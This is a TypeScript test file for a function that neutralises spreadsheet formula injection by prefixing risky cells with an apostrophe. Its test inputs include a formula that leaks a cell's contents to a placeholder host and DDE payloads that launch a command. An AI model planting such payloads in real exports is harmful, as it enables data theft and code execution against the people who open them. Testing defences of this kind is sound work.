import { describe, expect, it } from 'vitest';
import { spreadsheetCell } from './spreadsheetCell.ts';

/** What the spreadsheet import will do with a cell: drop one leading apostrophe. */
const readBack = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

describe('spreadsheetCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    '-cmd|\' /C calc\'!A0',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '-2+3',
    '+1-1',
    '-1 A1:B2',
    '-1\n=HYPERLINK("x")',
    '=',
    '-',
  ])('starts %j with an apostrophe, so that a spreadsheet reads it as text', (value) => {
    expect(spreadsheetCell(value)).toBe(`'${value}`);
  });

  it.each(['-10 kV', '+49 30 1234567', '-10', '+3.5', '-12,5 %', '-40 °C', 'Umspannwerk Nord', '20 kV', '', 'a=b', 'x@y.example'])(
    'keeps %j as it is: no formula a spreadsheet would run', (value) => {
      expect(spreadsheetCell(value)).toBe(value);
    },
  );

  it.each(["'=1+1", "'quoted", "''", '=1+1', 'plain', '-10 kV'])('reads back to %j by dropping one leading apostrophe', (value) => {
    expect(readBack(spreadsheetCell(value))).toBe(value);
  });
});
